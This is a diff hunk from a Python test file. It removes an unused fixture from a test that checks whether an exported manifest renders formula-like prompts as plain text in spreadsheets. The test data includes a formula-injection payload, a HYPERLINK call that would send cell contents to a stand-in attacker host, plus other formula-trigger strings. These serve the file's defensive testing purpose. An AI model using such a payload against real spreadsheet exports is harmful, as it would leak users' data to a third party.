@@ -327,7 +327,7 @@ def test_the_archive_holds_the_images_and_a_manifest(app, client, user):
             assert row["status"] == "canceled" and row["url"] == ""
 
 
-def test_the_manifest_shows_a_prompt_that_looks_like_a_formula_as_text(app, client, user):
+def test_the_manifest_shows_a_prompt_that_looks_like_a_formula_as_text(client, user):
     """Opened in a spreadsheet, a prompt must not run (=HYPERLINK(...) sends data out)."""
     prompts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1 dress", "red = bold"]
     batch_id = submit(client, user, {"items": [{"prompt": p} for p in prompts]})["id"]
